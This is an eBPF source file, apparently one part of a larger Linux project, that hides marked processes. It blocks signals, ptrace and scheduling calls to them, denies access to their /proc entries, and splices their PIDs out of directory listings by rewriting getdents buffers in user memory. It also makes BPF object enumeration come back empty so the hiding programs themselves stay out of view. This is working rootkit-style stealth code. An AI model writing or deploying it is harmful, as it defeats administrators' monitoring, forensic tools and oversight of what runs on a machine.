/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Hidden processes: signals and ptrace are refused, scheduling calls do not find
 * them, /proc does not show them, and the list of BPF objects is empty for others.
 */

__u32 hiding; /* set by user space with the first hidden process */

#define BPF_PROG_GET_NEXT 11
#define BPF_MAP_GET_NEXT 12
#define BPF_BTF_GET_NEXT 23
#define BPF_LINK_GET_NEXT 31

static __always_inline bool is_hidden(struct task_struct *target)
{
    u32 tgid = target->tgid;
    return hiding && bpf_map_lookup_elem(&hidden, &tgid);
}

static __noinline int refuse(struct task_struct *target, int error)
{
    return is_hidden(target) && !state_is_hidden() ? error : 0;
}

SEC("lsm/task_kill")
int BPF_PROG(hide_kill, struct task_struct *target, struct kernel_siginfo *info, int sig, const struct cred *cred,
             int ret)
{
    if (ret || !is_hidden(target) || (u64)info <= 1 || info->si_code > SI_USER)
        return ret; /* the kernel itself */
    if (state_is_hidden())
        return 0;
    /*
     * ESRCH would be the perfect answer, but kill_pid_info() takes it from a
     * living task for a race and tries again, without end and with no way to
     * stop it. Only tkill() and tgkill() pass it on.
     */
    return info->si_code == SI_TKILL ? -ESRCH : -EPERM;
}
#define HIDE_TASK(hook)                                                                                                \
    SEC("lsm/" #hook)                                                                                                  \
    int BPF_PROG(hide_##hook, struct task_struct *target, int ret)                                                     \
    {                                                                                                                  \
        return ret ? ret : refuse(target, -ESRCH);                                                                     \
    }
HIDE_TASK(task_getpgid)
HIDE_TASK(task_getsid)
HIDE_TASK(task_getscheduler)
HIDE_TASK(task_setscheduler)
HIDE_TASK(task_getioprio)

SEC("lsm/task_setnice")
int BPF_PROG(hide_setnice, struct task_struct *target, int nice, int ret)
{
    return ret ? ret : refuse(target, -ESRCH);
}
SEC("lsm/ptrace_access_check")
int BPF_PROG(hide_ptrace, struct task_struct *target, u32 mode, int ret)
{
    return ret ? ret : refuse(target, -EPERM);
}

static __noinline int refuse_inode(struct inode *inode)
{
    if (!hiding)
        return 0;
    u32 target = proc_target(inode);
    if (!target || !bpf_map_lookup_elem(&hidden, &target) || state_is_hidden())
        return 0;
    return -ENOENT;
}

SEC("lsm/inode_permission")
int BPF_PROG(hide_permission, struct inode *inode, int mask, int ret)
{
    if (ret || inode->i_sb->s_magic != PROC_MAGIC)
        return ret;
    return refuse_inode(inode);
}
SEC("lsm/inode_getattr")
int BPF_PROG(hide_getattr, const struct path *path, int ret)
{
    struct inode *inode = path->dentry->d_inode;
    if (ret || inode->i_sb->s_magic != PROC_MAGIC)
        return ret;
    return refuse_inode(inode);
}
SEC("lsm/file_open")
int BPF_PROG(hide_open, struct file *file, int ret)
{
    struct inode *inode = file->f_inode;
    if (ret || inode->i_sb->s_magic != PROC_MAGIC)
        return ret;
    return refuse_inode(inode);
}

SEC("lsm/bpf")
int BPF_PROG(hide_bpf, int cmd, union bpf_attr *attr, u32 size, int ret)
{
    if (ret || !hiding ||
        (cmd != BPF_PROG_GET_NEXT && cmd != BPF_MAP_GET_NEXT && cmd != BPF_BTF_GET_NEXT && cmd != BPF_LINK_GET_NEXT))
        return ret;
    return state_is_hidden() ? 0 : -ENOENT; /* "there are no more" */
}

/* ---- listings of /proc ------------------------------------------------------------------ */

/* The three layouts of a folder entry: where its length and its name are. */
struct listing {
    u64 at, end, previous;
    u32 length_at, name_at;
};

static long listing_step(u32 i, struct listing *l)
{
    u16 length = 0, before = 0;
    u8 name[8] = {};
    u32 pid = 0;

    if (l->at >= l->end || bpf_probe_read_user(&length, 2, (void *)(l->at + l->length_at)) || length < 12)
        return 1;
    u64 here = l->at;
    l->at = here + length;
    if (bpf_probe_read_user_str(name, sizeof(name), (void *)(here + l->name_at)) < 0)
        return 1;
    bool digits = false;
#pragma unroll
    for (int k = 0; k < 8; k++) {
        u8 c = name[k];
        if (!c)
            break;
        digits = c >= '0' && c <= '9';
        if (!digits)
            break;
        pid = pid * 10 + (c - '0');
    }
    if (!digits || !bpf_map_lookup_elem(&hidden, &pid)) {
        l->previous = here;
        return 0;
    }
    if (l->previous) {
        /* The entry before it grows over it. */
        bpf_probe_read_user(&before, 2, (void *)(l->previous + l->length_at));
        before += length;
        bpf_probe_write_user((void *)(l->previous + l->length_at), &before, 2);
    } else {
        /* First of the buffer: number 0 means "deleted" to readdir. */
        u8 dot[2] = {'.', 0};
        u32 zero = 0;
        bpf_probe_write_user((void *)here, &zero, 4);
        if (l->name_at > 12)
            bpf_probe_write_user((void *)(here + 4), &zero, 4);
        bpf_probe_write_user((void *)(here + l->name_at), dot, 2);
    }
    return 0;
}

static __noinline int after_listing(u32 fd, u64 buffer, long ret, u32 length_at, u32 name_at)
{
    if (ret <= 0 || !hiding)
        return 0;
    u64 file = call_file(fd);
    if (!file)
        return 0;
    struct inode *inode = VIEW(file, file)->f_inode;
    if (inode->i_sb->s_magic != PROC_MAGIC || inode->i_ino != 1 || state_is_hidden())
        return 0;
    struct listing l = {.at = buffer, .end = buffer + ret, .length_at = length_at, .name_at = name_at};
    bpf_loop(4096, listing_step, &l, 0);
    return 0;
}
static __always_inline int after_getdents64(u64 *args, long ret)
{
    return after_listing(args[0], args[1], ret, 16, 19);
}
AFTER_CALL(getdents64, after_getdents64)

static __always_inline int after_getdents(u64 *args, long ret)
{
    return after_listing(args[0], args[1], ret, 16, 18);
}
ON_CALL_64("fexit", getdents, after_getdents)

static __always_inline int after_getdents32(u64 *args, long ret)
{
    return after_listing(args[0], args[1], ret, 8, 10);
}
ON_CALL_32("fexit", "compat_sys_", getdents, after_getdents32)
